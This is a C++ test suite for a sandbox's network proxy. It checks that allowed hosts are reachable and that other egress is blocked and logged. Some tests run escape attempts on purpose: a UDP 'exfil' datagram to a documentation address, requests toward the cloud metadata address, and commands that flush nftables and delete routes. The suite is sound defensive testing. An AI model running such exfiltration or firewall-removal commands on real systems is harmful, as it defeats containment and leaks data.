// `cordon run` with a network section, for real: upstream servers on the host's loopback reached
// by name (network.resolve pins) from inside the sandbox through cordon-netproxy - curl, python3,
// git and a static binary that ignores every proxy setting - and every way out that the policy
// does not grant refused, each with its event. As root, SinkNetns proves that nothing aimed at the
// documentation ranges left the machine.
#include <dirent.h>
#include <gmock/gmock.h>
#include <signal.h>

#include <memory>
#include <nlohmann/json.hpp>

#include "launcher/net_sidecar.h"
#include "tests/launcher/sandbox_fixture.h"
#include "tests/netproxy/fixture.h"
#include "tests/support/sink_netns.h"

namespace cordon::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

// One sandbox with network: loopback upstreams (HTTP with www/hello.txt and a git repo, an echo
// server), a policy allowing api.test on the HTTP port, pinned to 127.0.0.1.
class NetworkSession {
 public:
  explicit NetworkSession(const std::string& extra_network = "") {
    files_ok_ = make_test_files(files_);
    up_ = std::make_unique<Upstreams>(std::vector<std::string>{"root=" + files_.path() + "/www"});
    policy_ = files_ / "policy.json";
    write_text(policy_, policy_json(extra_network));
  }
  bool ok() const { return files_ok_ && up_->ok(); }
  int http_port() const { return up_->port("http"); }
  int echo_port() const { return up_->port("echo"); }
  std::string url(const std::string& path) const {
    return "http://api.test:" + std::to_string(http_port()) + path;
  }
  std::string policy_json(const std::string& extra_network) const {
    return R"({"version": 1, "network": {"allow": ["api.test:)" + std::to_string(http_port()) +
           R"("], "resolve": {"api.test": "127.0.0.1", "other.test": "127.0.0.1",
                              "metadata.test": "169.254.169.254"})" +
           extra_network + "}}";
  }
  SandboxFixture& fixture() { return f_; }
  const std::string& policy() const { return policy_; }
  const TempDir& files() const { return files_; }

  RunResult sh(const std::string& script, std::vector<std::string> flags = {}) {
    flags.insert(flags.begin(), {"--policy", policy_});
    RunSpec spec;
    spec.deadline = std::chrono::seconds(60);
    return f_.sh(script, flags, spec);
  }
  // The newest session's events (`cordon log last --json`).
  std::vector<nlohmann::json> events(const std::string& kind = "") {
    RunSpec spec;
    spec.env = f_.env();
    auto r = run_program({cordon_bin(), "log", "last", "--json"}, spec);
    std::vector<nlohmann::json> out;
    size_t at = 0;
    while (at < r.out.size()) {
      size_t nl = r.out.find('\n', at);
      std::string line = r.out.substr(at, nl == std::string::npos ? nl : nl - at);
      at = nl == std::string::npos ? r.out.size() : nl + 1;
      auto ev = nlohmann::json::parse(line, nullptr, false);
      if (ev.is_object() && (kind.empty() || ev.value("kind", "") == kind)) {
        out.push_back(ev);
      }
    }
    return out;
  }
  std::string log(const std::vector<std::string>& args) {
    RunSpec spec;
    spec.env = f_.env();
    std::vector<std::string> argv = {cordon_bin(), "log", "last"};
    argv.insert(argv.end(), args.begin(), args.end());
    auto r = run_program(argv, spec);
    return r.out + r.err;
  }

 private:
  TempDir files_;
  bool files_ok_ = false;
  std::unique_ptr<Upstreams> up_;
  std::string policy_;
  SandboxFixture f_;
};

size_t count_if(const std::vector<nlohmann::json>& evs,
                const std::function<bool(const nlohmann::json&)>& pred) {
  return static_cast<size_t>(std::count_if(evs.begin(), evs.end(), pred));
}

std::string dump(const std::vector<nlohmann::json>& evs) {
  std::string s = "events:\n";
  for (const auto& e : evs) s += e.dump() + "\n";
  return s;
}

// As root: the documentation ranges are routed into a sink namespace that counts arrivals.
std::unique_ptr<SinkNetns> sink_if_root() {
  if (::geteuid() != 0) {
    return nullptr;
  }
  return std::make_unique<SinkNetns>();
}

TEST(Network, CurlPythonAndGitReachAnAllowedNameThroughTheProxy) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  std::string u = n.url("/hello.txt");
  auto r = n.sh(
      // curl honours HTTP_PROXY (explicit proxy), --noproxy makes it connect itself (transparent).
      "curl -sS " + u + " && curl -sS --noproxy '*' " + u +
      " && python3 -c 'import urllib.request,sys; "
      "sys.stdout.write(urllib.request.urlopen(\"" +
      u + "\", timeout=20).read().decode())'" +
      " && python3 -c 'import socket; s=socket.create_connection((\"api.test\"," +
      std::to_string(n.http_port()) +
      "), timeout=20); s.sendall(b\"GET /hello.txt HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n\"); "
      "b=b\"\"\nwhile True:\n  d=s.recv(4096)\n  if not d: break\n  b+=d\n"
      "print(b.decode().split(\"\\r\\n\\r\\n\",1)[1], end=\"\")'" +
      " && cd /tmp && git clone -q " + n.url("/repo.git") + " repo && cat repo/README");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_EQ(r.out,
            "hello through cordon\nhello through cordon\nhello through cordon\n"
            "hello through cordon\ncordon test repo\n");
  auto evs = n.events();
  auto http_ok = [&](const char* mode) {
    return count_if(evs, [&](const nlohmann::json& e) {
      return e.value("kind", "") == "net.connect" && e.value("name", "") == "api.test" &&
             e.value("mode", "") == mode && e.value("decision", "") == "allow";
    });
  };
  EXPECT_GE(http_ok("http"), 2u) << dump(evs);         // curl, urllib (+ git) via HTTP_PROXY
  EXPECT_GE(http_ok("transparent"), 2u) << dump(evs);  // curl --noproxy, raw socket
  EXPECT_GE(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.http" &&
                              e.value("url", "").find("/repo.git/") != std::string::npos &&
                              e.value("status", 0) == 200;
                     }),
            1u)
      << dump(evs);
  EXPECT_GE(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.dns" &&
                              e.value("name", "") == "api.test" &&
                              e.value("decision", "") == "allow";
                     }),
            1u)
      << dump(evs);
  // Attribution: every proxied connection names the process that made it (the shim's record
  // joined on the client address), and only the programs that really connected are named.
  auto attributed_to = [&](const std::string& exe_part, const char* of) {
    return count_if(evs, [&](const nlohmann::json& e) {
      return e.value("kind", "") == "net.attribution" && e.value("of", "") == of &&
             e.value("name", "") == "api.test" && !e.value("unattributed", false) &&
             e.value("exe", "").find(exe_part) != std::string::npos;
    });
  };
  EXPECT_GE(attributed_to("curl", "net.connect"), 2u) << dump(evs);
  EXPECT_GE(attributed_to("python3", "net.connect"), 2u) << dump(evs);
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.attribution" &&
                              e.value("of", "") == "net.connect" && e.value("unattributed", false);
                     }),
            0u)
      << dump(evs);
}

TEST(Network, NamesNotAllowedAndRawAddressesAreRefusedWithEvents) {
  auto sink = sink_if_root();
  if (sink) {
    CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  }
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  std::string port = std::to_string(n.http_port());
  auto r = n.sh(
      // Not allowed: NXDOMAIN from the proxy's DNS (nothing asked upstream), 403 from the proxy.
      "curl -sS --noproxy '*' http://other.test:" + port +
      "/hello.txt; echo \"dns=$?\"; "
      "curl -sS http://other.test:" +
      port +
      "/hello.txt; echo \" explicit=$?\"; "
      // The same kind of server by raw address: refused by the proxy, never dialled.
      "curl -sS -m 20 --noproxy '*' http://198.51.100.7:" +
      port +
      "/hello.txt; echo \" raw=$?\"; "
      // Allowed name, wrong port.
      "curl -sS -m 20 --noproxy '*' http://api.test:" +
      std::to_string(n.echo_port()) +
      "/; echo \" port=$?\"; "
      // A name pinned to the cloud metadata address: no address in the answer, proxy refuses.
      "curl -sS -m 20 http://metadata.test/latest; echo \" metadata=$?\"; "
      // A special-purpose address by raw IP (198.18.0.0/15, not a stand-in the DNS handed out).
      "curl -sS -m 20 --noproxy '*' http://198.19.255.1:" +
      port +
      "/; echo \" special=$?\"; "
      // An IPv6 documentation literal.
      "curl -sS -m 20 --noproxy '*' 'http://[2001:db8::7]:" +
      port + "/'; echo \" v6=$?\"");
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_THAT(r.out, HasSubstr("dns=6")) << r.out << r.err;  // curl: could not resolve host
  EXPECT_THAT(r.out, HasSubstr("other.test:" + port + " is not in network.allow")) << r.out;
  EXPECT_THAT(r.out, HasSubstr("198.51.100.7:" + port + " is not in network.allow")) << r.out;
  EXPECT_THAT(r.out, Not(HasSubstr("hello through cordon"))) << r.out;
  EXPECT_THAT(r.out, HasSubstr("metadata=")) << r.out;

  auto evs = n.events();
  auto has = [&](const std::string& kind, const std::string& field, const std::string& value) {
    return count_if(evs, [&](const nlohmann::json& e) {
             return e.value("kind", "") == kind && e.value("decision", "") == "deny" &&
                    e.contains(field) && e[field].is_string() &&
                    e[field].get<std::string>().find(value) != std::string::npos;
           }) > 0;
  };
  EXPECT_TRUE(has("net.dns", "name", "other.test")) << dump(evs);
  EXPECT_TRUE(has("net.refused", "name", "other.test")) << dump(evs);
  EXPECT_TRUE(has("net.refused", "address", "198.51.100.7")) << dump(evs);
  EXPECT_TRUE(count_if(evs,
                       [&](const nlohmann::json& e) {
                         return e.value("kind", "") == "net.refused" &&
                                e.value("name", "") == "api.test" &&
                                e.value("port", 0) == n.echo_port();
                       }) > 0)
      << dump(evs);
  EXPECT_TRUE(has("net.refused", "name", "metadata.test") || has("net.dns", "name", "metadata"))
      << dump(evs);
  EXPECT_TRUE(has("net.refused", "address", "198.19.255.1")) << dump(evs);
  EXPECT_TRUE(has("net.refused", "address", "2001:db8::7")) << dump(evs);
  // Nothing was dialled for any of them: the only allowed connections are none at all.
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.connect" &&
                              e.value("decision", "") == "allow";
                     }),
            0u)
      << dump(evs);
  if (sink) {
    EXPECT_EQ(sink->hits(), 0);
  }

  // `cordon log --net`: the refusals and the summary sections.
  std::string report = n.log({"--net"});
  EXPECT_THAT(report, HasSubstr("Hosts")) << report;
  EXPECT_THAT(report, HasSubstr("Refused (")) << report;
  EXPECT_THAT(report, HasSubstr("DNS A other.test")) << report;
  EXPECT_THAT(report, HasSubstr("198.51.100.7:" + port)) << report;
}

TEST(Network, UdpAndIcmpAreDroppedAndReported) {
  auto sink = sink_if_root();
  if (sink) {
    CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  }
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  auto r = n.sh(
      "python3 -c 'import socket,errno\n"
      "for fam, addr in ((socket.AF_INET, \"198.51.100.9\"), (socket.AF_INET6, \"2001:db8::9\")):\n"
      "  u=socket.socket(fam, socket.SOCK_DGRAM)\n"
      "  try:\n    u.sendto(b\"exfil\", (addr, 4444)); print(\"udp-sent\")\n"
      "  except OSError as e: print(\"udp\", errno.errorcode.get(e.errno))\n"
      "for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):\n"
      "  try:\n"
      "    s=socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)\n"
      "    s.sendto(b\"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00\", (\"198.51.100.9\", 0))\n"
      "    print(\"icmp-sent\")\n"
      "  except OSError as e: print(\"icmp\", errno.errorcode.get(e.errno))\n'"
      // The proxy reads the kernel's NFLOG messages asynchronously: give it a moment before the
      // session ends (an event missed here fails the test; nothing is timed).
      "; sleep 1");
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  // The ruleset drops UDP other than DNS (sendto fails at once with EPERM); ICMP sockets are not
  // even available to the program (no CAP_NET_RAW, ping sockets off in its namespace).
  EXPECT_EQ(r.out, "udp EPERM\nudp EPERM\nicmp EACCES\nicmp EPERM\n") << r.err;
  auto evs = n.events();
  EXPECT_GE(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.refused" &&
                              e.value("proto", "") == "udp" &&
                              e.dump().find("198.51.100.9") != std::string::npos;
                     }),
            1u)
      << dump(evs);
  if (sink) {
    EXPECT_EQ(sink->hits(), 0);
  }
}

// A static binary (no ld.so, so no preload shim; plain sockets, so no HTTP_PROXY): its DNS query
// and its connection are captured all the same.
TEST(Network, StaticBinaryIgnoringProxySettingsIsCaptured) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  const std::string src = n.fixture().ws() + "/client.c";
  write_text(src, R"(#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char** argv) {
  struct addrinfo hints = {0}, *res;
  hints.ai_family = AF_INET;
  hints.ai_socktype = SOCK_STREAM;
  int e = getaddrinfo(argv[1], argv[2], &hints, &res);
  if (e != 0) { printf("resolve %s: %s\n", argv[1], gai_strerror(e)); return 2; }
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, res->ai_addr, res->ai_addrlen) != 0) { perror("connect"); return 3; }
  char req[512];
  snprintf(req, sizeof req, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", argv[3], argv[1]);
  if (write(fd, req, strlen(req)) < 0) return 4;
  char buf[4096]; ssize_t got, total = 0;
  while ((got = read(fd, buf + total, sizeof buf - 1 - total)) > 0) total += got;
  buf[total] = 0;
  char* body = strstr(buf, "\r\n\r\n");
  printf("%s", body ? body + 4 : buf);
  return 0;
}
)");
  auto cc = run_program({"gcc", "-static", "-O1", "-o", n.fixture().ws() + "/client", src});
  ASSERT_EQ(cc.exit_code(), 0) << cc.err;
  auto file = run_program({"sh", "-c", "LC_ALL=C file " + n.fixture().ws() + "/client"});
  if (file.exit_code() == 0) {
    EXPECT_THAT(file.out, HasSubstr("statically linked"));
  }
  std::string port = std::to_string(n.http_port());
  auto r = n.sh("./client api.test " + port + " /hello.txt; ./client other.test " + port +
                " /hello.txt; echo rc=$?");
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_EQ(r.out, "hello through cordon\nresolve other.test: Name or service not known\nrc=2\n")
      << r.err;
  auto evs = n.events();
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.http" &&
                              e.value("mode", "") == "transparent" &&
                              e.value("name", "") == "api.test" && e.value("status", 0) == 200;
                     }),
            1u)
      << dump(evs);
  // The shim cannot see a static binary: its connection is reported unattributed, never guessed.
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.attribution" &&
                              e.value("of", "") == "net.connect" &&
                              e.value("name", "") == "api.test" &&
                              e.value("unattributed", false) && !e.contains("exe");
                     }),
            1u)
      << dump(evs);
}

// --allow-host grants what network.allow would; the exit summary names the host.
TEST(Network, AllowHostFlagGrantsAndTheSummaryListsTopHosts) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  // A policy with the pins only: nothing allowed until the flag says so.
  std::string pins = n.files() / "pins.json";
  write_text(pins, R"({"version": 1, "network": {"resolve": {"api.test": "127.0.0.1"}}})");
  std::string u = n.url("/hello.txt");
  RunSpec spec;
  spec.deadline = std::chrono::seconds(60);
  auto without = n.fixture().run({"--mode", "rw", "--policy", pins},
                                 {"sh", "-c", "curl -sS -m 10 " + u + "; echo rc=$?"}, spec);
  EXPECT_THAT(without.out, HasSubstr("rc=6")) << without.out << without.err;  // no network at all
  auto with =
      n.fixture().run({"--mode", "rw", "--policy", pins, "--allow-host",
                       "api.test:" + std::to_string(n.http_port())},
                      {"sh", "-c", "curl -sS " + u + " && curl -sS --noproxy '*' " + u}, spec);
  ASSERT_EQ(with.exit_code(), 0) << with.err;
  EXPECT_EQ(with.out, "hello through cordon\nhello through cordon\n");
  EXPECT_THAT(with.err, HasSubstr("cordon: network: 2 connections to 1 host")) << with.err;
  EXPECT_THAT(with.err, HasSubstr("cordon:   api.test (2 connections, 2 requests")) << with.err;
}

// Without network.allow: no proxy, no route, the sandbox fails fast (the default policy's case).
TEST(Network, NoAllowMeansNoProxyAndNoRoute) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  std::string pins = n.files() / "pins.json";
  write_text(pins, R"({"version": 1, "network": {"resolve": {"api.test": "127.0.0.1"}}})");
  RunSpec spec;
  spec.deadline = std::chrono::seconds(60);
  auto r = n.fixture().run(
      {"-q", "--mode", "rw", "--policy", pins},
      {"sh", "-c",
       "cat /etc/resolv.conf; env | grep -ci proxy; python3 -c 'import socket,errno\n"
       "try:\n  socket.create_connection((\"198.51.100.7\", 80), timeout=5)\n"
       "except OSError as e: print(errno.errorcode.get(e.errno))'"},
      spec);
  EXPECT_EQ(r.out, "nameserver 127.0.0.1\n0\nENETUNREACH\n") << r.err;
  for (const auto& e : n.events()) {
    EXPECT_NE(e.value("source", ""), "netproxy") << e.dump();  // no proxy was started
  }
}

// The proxy killed mid-session: the sandbox has no network from then on, nothing goes out, and
// the summary says what happened.
TEST(Network, ProxyKilledMidSessionLeavesNoNetwork) {
  auto sink = sink_if_root();
  if (sink) {
    CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  }
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  uid_t uid = n.fixture().make_workspace_owned();
  std::string u = n.url("/hello.txt");
  std::string go = n.fixture().ws() + "/go";
  std::vector<std::string> argv = {
      cordon_bin(),
      "run",
      "--workspace",
      n.fixture().ws(),
      "--mode",
      "rw",
      "--policy",
      n.policy(),
      "--",
      "sh",
      "-c",
      "curl -sS " + u +
          " && echo first-ok; "
          "i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; "
          "curl -sS -m 10 " +
          u +
          "; echo \"explicit=$?\"; "
          "curl -sS -m 10 --noproxy '*' " +
          u +
          "; echo \"transparent=$?\"; "
          "python3 -c 'import socket,errno\n"
          "try:\n  socket.create_connection((\"198.51.100.7\", 80), timeout=5); "
          "print(\"raw=connected\")\n"
          "except OSError as e: print(\"raw=\" + str(errno.errorcode.get(e.errno)))'"};
  Background bg(argv, n.fixture().env(), n.fixture().ws());
  ASSERT_THAT(bg.read_until("first-ok\n"), HasSubstr("hello through cordon\nfirst-ok\n"));
  // cordon's child named cordon-netproxy (comm is cut at 15 characters: exactly the name).
  pid_t proxy = -1;
  for (int i = 0; i < 100 && proxy < 0; ++i) {
    std::string kids = read_text("/proc/" + std::to_string(bg.pid()) + "/task/" +
                                 std::to_string(bg.pid()) + "/children");
    std::istringstream in(kids);
    pid_t p;
    while (in >> p) {
      if (read_text("/proc/" + std::to_string(p) + "/comm") == "cordon-netproxy\n") {
        proxy = p;
      }
    }
    if (proxy < 0) usleep(20000);
  }
  ASSERT_GT(proxy, 0) << "no cordon-netproxy child of cordon";
  if (::geteuid() == 0) {
    // As host root the proxy still runs as the sandbox's user, with no capability left.
    std::string status = read_text("/proc/" + std::to_string(proxy) + "/status");
    std::string ids = std::to_string(uid) + "\t" + std::to_string(uid);
    EXPECT_THAT(status, HasSubstr("\nUid:\t" + ids + "\t" + ids + "\n")) << status;
    EXPECT_THAT(status, HasSubstr("\nCapEff:\t0000000000000000\n")) << status;
    EXPECT_THAT(status, HasSubstr("\nCapPrm:\t0000000000000000\n")) << status;
    EXPECT_THAT(status, HasSubstr("\nNoNewPrivs:\t1\n")) << status;
  }
  ASSERT_EQ(::kill(proxy, SIGKILL), 0);
  // kill() returns before the process is gone: wait (bounded) until it is a zombie (cordon reaps
  // it at the end), i.e. its sockets are closed.
  for (int i = 0; i < 500; ++i) {
    std::string stat = read_text("/proc/" + std::to_string(proxy) + "/stat");
    size_t paren = stat.rfind(')');
    if (stat.empty() || (paren != std::string::npos && stat.compare(paren, 3, ") Z") == 0)) {
      break;
    }
    usleep(10000);
  }
  write_text(go, "");
  EXPECT_EQ(bg.wait(std::chrono::seconds(60)), 0);
  const std::string& out = bg.text();
  // curl: 7 = could not connect (refused: the listening sockets died with the proxy).
  EXPECT_THAT(out, HasSubstr("explicit=7")) << out;
  // 6: its DNS query went unanswered (the DNS socket died too); 7: refused.
  EXPECT_THAT(out, ::testing::ContainsRegex("transparent=(6|7)")) << out;
  EXPECT_THAT(out, HasSubstr("raw=ECONNREFUSED")) << out;
  EXPECT_EQ(out.find("hello through cordon"), out.rfind("hello through cordon")) << out;
  auto evs = n.events("net.proxy_exit");
  ASSERT_EQ(evs.size(), 1u);
  EXPECT_THAT(evs[0].value("reason", ""), HasSubstr("SIGKILL"));
  if (sink) {
    EXPECT_EQ(sink->hits(), 0);
  }
}

// The program cannot lift the capture: no CAP_NET_ADMIN in its namespace, so the ruleset and the
// routes stay, and a datagram out is still dropped afterwards.
TEST(Network, TheProgramCannotLiftTheCapture) {
  auto sink = sink_if_root();
  if (sink) {
    CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  }
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  auto r = n.sh(
      "/usr/sbin/nft flush ruleset 2>/dev/null; echo nft=$?; "
      "/usr/bin/ip route del default 2>/dev/null; echo route=$?; "
      "/usr/bin/ip link add x0 type dummy 2>/dev/null; echo link=$?; "
      "python3 -c 'import socket,errno\n"
      "u=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "try:\n  u.sendto(b\"x\", (\"198.51.100.9\", 4444)); print(\"udp-sent\")\n"
      "except OSError as e: print(\"udp\", errno.errorcode.get(e.errno))'");
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_THAT(r.out, Not(HasSubstr("=0\n"))) << r.out;
  EXPECT_THAT(r.out, HasSubstr("udp EPERM")) << r.out;
  if (sink) {
    EXPECT_EQ(sink->hits(), 0);
  }
}

// spawn_netproxy's host-listener variant (the shim's --no-namespaces mode): the proxy picks a port
// on the host's 127.0.0.1, serves the policy there, logs to the events fd, and is stopped and
// reaped with its NetproxyProcess.
TEST(NetSidecar, HostListenerServesAndStopsWithItsOwner) {
  TempDir dir;
  ASSERT_TRUE(make_test_files(dir));
  Upstreams up({"root=" + dir.path() + "/www"});
  ASSERT_TRUE(up.ok());
  std::string policy = dir / "policy.json";
  write_text(policy, R"({"version": 1, "network": {"allow": ["api.test:)" +
                         std::to_string(up.port("http")) +
                         R"("], "resolve": {"api.test": "127.0.0.1"}}})");
  int events =
      ::open((dir / "events.jsonl").c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
  ASSERT_GE(events, 0);
  launcher::NetproxySpawn spec;
  spec.policy_path = policy;
  spec.binary = build_path("netproxy/cordon-netproxy");
  spec.session_id = "sidecar-test";
  spec.events_fd = events;
  spec.listen_on_host = true;
  spec.log_path = dir / "netproxy.log";
  pid_t pid;
  {
    auto proxy = launcher::spawn_netproxy(spec);
    ::close(events);
    ASSERT_TRUE(proxy.ok()) << proxy.error().to_string();
    pid = proxy->pid;
    ASSERT_GT(proxy->host_port, 0);
    std::string url = "http://api.test:" + std::to_string(up.port("http")) + "/hello.txt";
    auto r = run_program({"curl", "-sS", "-m", "20", "--proxy",
                          "http://127.0.0.1:" + std::to_string(proxy->host_port), url});
    EXPECT_EQ(r.out, "hello through cordon\n") << r.err;
    auto denied =
        run_program({"curl", "-sS", "-m", "20", "--proxy",
                     "http://127.0.0.1:" + std::to_string(proxy->host_port), "http://other.test/"});
    EXPECT_THAT(denied.out, HasSubstr("not in network.allow")) << denied.err;
    EXPECT_FALSE(proxy->exited().has_value());
  }
  // Reaped by the destructor: the pid is gone (not a zombie waiting for us).
  EXPECT_NE(::kill(pid, 0), 0);
  auto evs = read_events(dir / "events.jsonl");
  EXPECT_GE(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.http" &&
                              e.value("session", "") == "sidecar-test" &&
                              e.value("status", 0) == 200;
                     }),
            1u)
      << dump(evs);
}

// A proxy that cannot start is an error that quotes it, not a hang.
TEST(NetSidecar, StartFailureIsReportedWithTheProxysWords) {
  TempDir dir;
  std::string policy = dir / "policy.json";
  write_text(policy, R"({"version": 1, "network": {"alow": []}})");
  launcher::NetproxySpawn spec;
  spec.policy_path = policy;
  spec.binary = build_path("netproxy/cordon-netproxy");
  spec.session_id = "bad";
  spec.listen_on_host = true;
  spec.log_path = dir / "netproxy.log";
  auto proxy = launcher::spawn_netproxy(spec);
  ASSERT_FALSE(proxy.ok());
  EXPECT_THAT(proxy.error().to_string(), HasSubstr("before it was ready"));
  EXPECT_THAT(proxy.error().to_string(), HasSubstr("network.alow"));
}

}  // namespace
}  // namespace cordon::testing
